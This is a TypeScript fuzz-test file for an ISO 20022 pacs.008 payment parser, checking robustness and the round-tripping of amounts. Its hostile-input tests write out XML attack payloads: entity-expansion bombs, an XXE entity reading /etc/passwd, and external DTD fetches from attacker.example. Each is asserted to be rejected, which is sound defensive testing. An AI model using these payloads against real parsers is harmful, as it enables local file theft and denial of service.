// Proves, with fast-check, that random, malformed, truncated and hostile input always yields a
// typed result quickly and never an exception, and that amounts survive generate-then-parse.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { listCurrencies } from '../money/index.js';
import { FIXTURE_NAMES, fixtureText, parseExpecting, SAMPLES } from './_test-fixtures.js';
import { parseMessage, type ParseResult } from './inbound.js';
import { MESSAGE_BYTES_MAX } from './limits.js';
import { generateCustomerCreditTransfer } from './pacs008-write.js';
import { classifyInboundFailure } from './reject-mapping.js';
import { readXml } from './xml-reader.js';

/** A parse that took longer than this on a small input would be a hang in production. */
const PARSE_MILLISECONDS_MAX = 2_000;

const samples = FIXTURE_NAMES.map(fixtureText);

function parseWithinBound(input: string | Uint8Array): ParseResult {
  const started = performance.now();
  const result = parseMessage(input);
  const elapsed = performance.now() - started;
  assert.ok(elapsed < PARSE_MILLISECONDS_MAX, `parsing took ${elapsed} ms`);
  assert.equal(typeof result.ok, 'boolean');
  // A failure must always be classifiable into an ISO answer.
  if (!result.ok) assert.ok([
    'admi.002',
    'pacs.002',
    'none',
  ].includes(classifyInboundFailure(result.failure).response));
  return result;
}

const sample = fc.constantFrom(...samples);

describe('fuzzing the parser', () => {
  test('returns a typed result for random text', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', maxLength: 400 }),
        (text) => void parseWithinBound(text),
      ),
      { numRuns: 400 },
    );
  });

  test('returns a typed result for random bytes', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), (bytes) => void parseWithinBound(bytes)),
      { numRuns: 400 },
    );
  });

  test('returns a typed result for every truncation of the samples', () => {
    fc.assert(
      fc.property(
        sample,
        fc.nat(),
        (text, cut) => void parseWithinBound(text.slice(0, cut % (text.length + 1))),
      ),
      { numRuns: 400 },
    );
  });

  test('returns a typed result for samples with random splices', () => {
    const splice = fc.tuple(
      sample,
      fc.nat(),
      fc.nat({ max: 40 }),
      fc.string({ unit: 'binary', maxLength: 40 }),
    );
    fc.assert(
      fc.property(splice, ([text, at, length, insert]) => {
        const position = at % (text.length + 1);
        void parseWithinBound(text.slice(0, position) + insert + text.slice(position + length));
      }),
      { numRuns: 600 },
    );
  });

  test('returns a typed result when markup characters are sprinkled into samples', () => {
    const markup = fc.constantFrom(
      '<',
      '>',
      '&',
      '"',
      "'",
      '</',
      '/>',
      '<!--',
      ']]>',
      '&amp',
      '<![CDATA[',
      '<?',
      ':',
    );
    fc.assert(
      fc.property(sample, fc.array(fc.tuple(fc.nat(), markup), { maxLength: 5 }), (text, edits) => {
        let mutated = text;
        for (const [at, token] of edits) {
          const position = at % (mutated.length + 1);
          mutated = mutated.slice(0, position) + token + mutated.slice(position);
        }
        void parseWithinBound(mutated);
      }),
      { numRuns: 600 },
    );
  });
});

describe('hostile input', () => {
  test('refuses entity bombs of any depth and width without expanding them', () => {
    const depths = fc.integer({ min: 1, max: 12 });
    const widths = fc.integer({ min: 2, max: 20 });
    fc.assert(
      fc.property(depths, widths, (depth, width) => {
        let declarations = '<!ENTITY e0 "boom">';
        for (let level = 1; level <= depth; level += 1) {
          declarations += `<!ENTITY e${level} "${`&e${level - 1};`.repeat(width)}">`;
        }
        const result = parseWithinBound(`<?xml version="1.0"?><!DOCTYPE b [${declarations}]><b>&e${depth};</b>`);
        assert.ok(!result.ok && result.failure.stage === 'read' && result.failure.code === 'doctype_forbidden');
      }),
      { numRuns: 50 },
    );
  });

  test('refuses external entities, parameter entities and DOCTYPEs hidden after the prolog', () => {
    const attacks = [
      '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
      '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">%p;]><d/>',
      '<!DOCTYPE d SYSTEM "http://attacker.example/x.dtd"><d/>',
      '<?xml version="1.0"?>\n<!-- note -->\n<!doctype d [<!ENTITY x "y">]><d>&x;</d>',
    ];
    for (const attack of attacks) {
      const result = parseWithinBound(attack);
      assert.ok(
        !result.ok && result.failure.stage === 'read' && result.failure.code === 'doctype_forbidden',
        attack,
      );
    }
  });

  test('refuses deep nesting at any depth past the bound, quickly', () => {
    fc.assert(
      fc.property(fc.integer({ min: 49, max: 100_000 }), (depth) => {
        const result = parseWithinBound(`${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`);
        assert.ok(!result.ok && result.failure.stage === 'read' && result.failure.code === 'nesting_too_deep');
      }),
      { numRuns: 20 },
    );
  });

  test('refuses a huge message by its size alone', () => {
    const huge = `<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08">${'<a/>'.repeat(MESSAGE_BYTES_MAX / 4)}</Document>`;
    const result = parseWithinBound(huge);
    assert.ok(!result.ok && result.failure.stage === 'read' && result.failure.code === 'input_too_large');
  });

  test('refuses an element flood within the size bound', () => {
    const flood = `<r>${'<a/>'.repeat(210_000)}</r>`;
    const result = readXml(flood);
    assert.ok(!result.ok && result.error.code === 'too_many_elements');
  });
});

describe('amounts through generation and parsing', () => {
  test('keep their exact minor units in every Corridor currency', () => {
    const base = parseExpecting(fixtureText(SAMPLES.fedwireCrossCurrency), 'pacs.008').document;
    const { index: _index, ...transaction } = base.transactions[0] ?? assert.fail();
    const currency = fc.constantFrom(...listCurrencies().map((each) => each.code));
    fc.assert(
      fc.property(currency, fc.bigInt({ min: 0n, max: 10n ** 17n }), (code, value) => {
        const amount = { currency: code, value };
        const generated = generateCustomerCreditTransfer({
          groupHeader: base.groupHeader,
          transactions: [{ ...transaction, interbankSettlementAmount: amount }],
        });
        assert.ok(generated.ok);
        const parsed = parseExpecting(generated.message.xml, 'pacs.008').document.transactions[0];
        assert.deepEqual(parsed?.interbankSettlementAmount, amount);
      }),
      { numRuns: 200 },
    );
  });
});
